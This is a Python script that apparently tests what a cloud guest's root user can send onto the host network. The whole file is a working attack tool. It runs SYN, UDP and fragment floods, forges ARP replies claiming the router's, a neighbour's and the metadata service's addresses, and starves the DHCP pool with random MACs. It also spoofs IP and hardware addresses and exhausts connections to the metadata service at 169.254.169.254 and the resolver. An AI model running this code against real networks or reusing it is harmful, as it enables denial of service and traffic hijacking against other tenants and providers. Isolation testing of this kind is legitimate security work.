"""What a guest's root can send that it ought not to. It runs in the guest, and needs the standard library only.

`attack.py INTERFACE OWN NEIGHBOUR ROUTER SECONDS`: floods of each kind in turn, as fast as it can, for so many seconds;
prints as JSON how much of each was sent.
"""

import contextlib
import errno
import json
import os
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

_METADATA, _RESOLVER = "169.254.169.254", "169.254.169.253"
_EVERYBODY = b"\xff" * 6
_IPV4, _ARP = b"\x08\x00", b"\x08\x06"
_TCP, _UDP, _ICMP = 6, 17, 1
_AT_ONCE = 50  # frames of a kind before the next kind's
_MOST_OPEN = 3000


def main() -> None:
    name, own, neighbour, router, seconds = sys.argv[1:]
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((name, 0))
    mac = bytes.fromhex(Path(f"/sys/class/net/{name}/address").read_text().strip().replace(":", ""))
    to_router = _mac_of(router) + mac
    floods = {
        "syn": (to_router + _IPV4 + ip(_TCP, own, _far(), tcp()) for _ in _ever()),
        "syn to the neighbour": (to_router + _IPV4 + ip(_TCP, own, neighbour, tcp(22)) for _ in _ever()),
        "udp": (to_router + _IPV4 + ip(_UDP, own, _far(), udp(_any_port(), b"x" * 64)) for _ in _ever()),
        "arp requests": (_EVERYBODY + mac + _ARP + arp(1, mac, own, _near(own)) for _ in _ever()),
        "foreign arp": (
            _EVERYBODY + mac + _ARP + arp(kind, mac, random.choice((router, neighbour, _METADATA, _near(own))), router)
            for _ in _ever()
            for kind in (1, 2)
        ),
        "dhcp": (_EVERYBODY + stranger + _IPV4 + discover(stranger) for stranger in map(_any_mac, _ever())),
        "dns": (to_router + _IPV4 + ip(_UDP, own, _RESOLVER, udp(53, question())) for _ in _ever()),
        "fragments": (to_router + _IPV4 + ip(_UDP, own, _anybody(neighbour), b"x" * 64, more=True) for _ in _ever()),
        "spoofed addresses": (
            to_router + _IPV4 + ip(_UDP, _false(neighbour, router), _anybody(neighbour), udp(53, question()))
            for _ in _ever()
        ),
        "spoofed hardware": (
            to_router[:6] + _any_mac(0) + _IPV4 + ip(_UDP, own, _anybody(neighbour), udp(_any_port(), b"x"))
            for _ in _ever()
        ),
        "metadata syn": (to_router + _IPV4 + ip(_TCP, own, _METADATA, tcp(80)) for _ in _ever()),
    }
    sent: Counter[str] = Counter()
    held: list[socket.socket] = []
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        for kind, frames in floods.items():
            for _ in range(_AT_ONCE):
                try:
                    wire.send(next(frames))
                except OSError as failure:
                    if failure.errno not in (errno.ENOBUFS, errno.EAGAIN):
                        raise
                else:
                    sent[kind] += 1
        for port, kind in ((80, "metadata connections"), (53, "dns connections")):
            if len(held) < _MOST_OPEN:
                held.append(_begun(_METADATA if port == 80 else _RESOLVER, port))
                sent[kind] += 1
    print(json.dumps(sent))


def ip(protocol: int, source: str, destination: str, data: bytes, *, more: bool = False) -> bytes:
    """A packet; `more` fragments of it follow, or so it says."""
    flags = 0x2000 if more else 0
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    number, length = random.randrange(65536), 20 + len(data)
    head = struct.pack("!BBHHHBBH", 0x45, 0, length, number, flags, 64, protocol, 0) + addresses
    if protocol == _TCP:
        data = data[:16] + _sum(addresses + struct.pack("!HH", protocol, len(data)) + data) + data[18:]
    return head[:10] + _sum(head) + head[12:] + data


def tcp(port: int | None = None) -> bytes:
    """The first packet of a handshake."""
    sequence = random.randrange(1 << 32)
    return struct.pack("!HHIIBBHHH", _any_port(), port or _any_port(), sequence, 0, 0x50, 2, 64240, 0, 0)


def udp(port: int, data: bytes) -> bytes:
    return struct.pack("!HHHH", _any_port(), port, 8 + len(data), 0) + data


def question() -> bytes:
    """For a name that nobody has."""
    label = f"{random.randrange(1 << 40):x}".encode()
    name = bytes([len(label)]) + label + b"\x07invalid\x00"
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)


def arp(operation: int, mac: bytes, source: str, target: str) -> bytes:
    said = mac + socket.inet_aton(source) + bytes(6) + socket.inet_aton(target)
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + said


def discover(mac: bytes) -> bytes:
    """A client of this hardware address looks for a server of DHCP."""
    head = struct.pack("!BBBBIHH", 1, 1, 6, 0, random.randrange(1 << 32), 0, 0x8000) + bytes(16)
    data = head + mac + bytes(202) + b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\xff"
    datagram = struct.pack("!HHHH", 68, 67, 8 + len(data), 0) + data
    return ip(_UDP, "0.0.0.0", "255.255.255.255", datagram)


def _begun(address: str, port: int) -> socket.socket:
    """A connection that is asked for, and of which nobody hears again."""
    connection = socket.socket()
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        connection.connect((address, port))
    return connection


def _mac_of(address: str) -> bytes:
    """The hardware address of the router, which this guest has asked for before."""
    for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
        words = line.split()
        if words[0] == address:
            return bytes.fromhex(words[3].replace(":", ""))
    raise LookupError(address)


def _ever() -> Iterator[int]:
    number = 0
    while True:
        yield number
        number += 1


def _far() -> str:
    """An address that nobody has (RFC 5737)."""
    return f"198.51.100.{random.randrange(1, 255)}"


def _near(own: str) -> str:
    return f"{own.rpartition('.')[0]}.{random.randrange(4, 255)}"


def _anybody(neighbour: str) -> str:
    return random.choice((neighbour, _METADATA, _RESOLVER, _far()))


def _false(neighbour: str, router: str) -> str:
    anything = ".".join(str(random.randrange(256)) for _ in range(4))
    return random.choice((neighbour, router, _METADATA, "127.0.0.1", "0.0.0.0", "255.255.255.255", anything))


def _any_mac(_: int) -> bytes:
    return b"\x02" + os.urandom(5)


def _any_port() -> int:
    return random.randrange(1, 65536)


def _sum(data: bytes) -> bytes:
    total = sum(struct.unpack(f"!{len(data + bytes(len(data) % 2)) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


if __name__ == "__main__":
    main()
